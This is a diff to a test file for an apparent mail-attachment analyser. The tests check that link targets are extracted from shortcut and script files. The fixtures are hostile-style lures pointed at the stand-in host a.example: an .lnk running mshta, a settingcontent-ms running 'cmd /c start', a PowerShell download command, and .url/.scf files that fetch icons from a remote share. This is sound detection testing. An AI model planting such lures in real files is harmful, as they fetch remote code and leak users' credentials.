@@ -407,6 +407,15 @@ def test_an_old_card_with_quoted_printable() -> None:
     assert message.documents[0].text.strip() == "支払"
 
 
+def plist(url: bytes) -> bytes:
+    kind = b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'
+    return b"<?xml version='1.0'?>" + kind + b"<plist><dict><key>URL</key><string>" + url + b"</string></dict></plist>"
+
+
+def xml(inside: bytes) -> bytes:
+    return b"<?xml version='1.0'?><x xmlns='http://schemas.microsoft.com/windows/2009/library'>" + inside + b"</x>"
+
+
 @pytest.mark.parametrize(
     ("name", "content"),
     [
@@ -416,12 +425,59 @@ def test_an_old_card_with_quoted_printable() -> None:
             b'<?xml version="1.0"?><plist><dict><key>URL</key><string>https://a.example/x</string></dict></plist>',
         ),
         ("Invoice.desktop", b"[Desktop Entry]\nType=Link\nURL=https://a.example/x\n"),
+        ("Invoice.desktop", b"[Desktop Entry]\nType=Application\nExec=xdg-open https://a.example/x\n"),
+        ("Invoice.inetloc", plist(b"https://a.example/x")),
+        ("Invoice.fileloc", plist(b"https://a.example/x")),
+        ("Profile.mobileconfig", plist(b"https://a.example/x")),
+        ("Scan.library-ms", xml(b"<simpleLocation><url>\\\\a.example\\x</url></simpleLocation>")),
+        ("Scan.searchConnector-ms", xml(b"<simpleLocation><url>https://a.example/x</url></simpleLocation>")),
+        ("Scan.settingcontent-ms", b"<PCSettings><DeepLink>cmd /c start https://a.example/x</DeepLink></PCSettings>"),
+        ("Scan.application", xml(b"<deploymentProvider codebase='https://a.example/x'/>")),
         ("Invoice.iqy", b"WEB\r\n1\r\nhttps://a.example/x\r\n"),
         ("Invoice.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60) + "mshta https://a.example/x\0".encode("utf-16-le")),
     ],
 )
 def test_where_a_shortcut_leads(name: str, content: bytes) -> None:
     assert targets(read(name, "application/octet-stream", content)) == ["https://a.example/x"]
+
+
+@pytest.mark.parametrize(
+    "entry", [b"URL=file:///C:/a.txt\r\nIconFile=", b"WorkingDirectory=", b"[Shell]\r\nCommand=2\r\nIconFile="]
+)
+@pytest.mark.parametrize("name", ["a.url", "a.scf"])
+def test_what_a_shortcut_fetches_from_a_share(name: str, entry: bytes) -> None:
+    (document,) = read(
+        name, "application/octet-stream", b"[InternetShortcut]\r\n" + entry + b"\\\\a.example\\s"
+    ).documents
+    assert document.remote == ("\\\\a.example\\s",)
+
+
+@pytest.mark.parametrize("kind", ["text/plain", "text/markdown", "application/octet-stream"])
+@pytest.mark.parametrize("name", ["notice.txt", "notice.md", "NOTICE.TXT "])
+def test_a_text_that_is_attached_leads_where_it_says(name: str, kind: str) -> None:
+    message = read(name, kind, "詳細：[Open](https://a.example/x)\n".encode(), "word " * 100)
+    assert [(link.target, link.source, link.place.part) for link in message.links] == [
+        ("https://a.example/x", "attachment", "2")
+    ]
+    assert [(each.kind, each.text) for each in message.documents] == [("text", "詳細：[Open](https://a.example/x)\n")]
+
+
+def test_files_for_programmers_are_left_alone() -> None:
+    for name in ("a.log", "a.json", "a.py", "a.patch"):
+        assert read(name, "text/plain", b"https://a.example/x").documents == ()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.js", b"location='https://a.exa'+'mple/x'"), ("a.vbs", b'CreateObject("x").Run "https://a.example/x"'),
+        ("a.ps1", b"iwr https://a.example/x -OutFile b"), ("a.bat", b"start https://a.example/x\r\n"),
+        ("a.wsf", b"<job><script src='https://a.example/x'></script></job>"),
+    ],
+)  # fmt: skip
+def test_where_a_script_leads(name: str, content: bytes) -> None:
+    message = read(name, "application/octet-stream", content)
+    assert (targets(message), message.documents[0].kind) == (["https://a.example/x"], "script")
 
 
 # --- pages and mails --------------------------------------------------------------------------------------------------
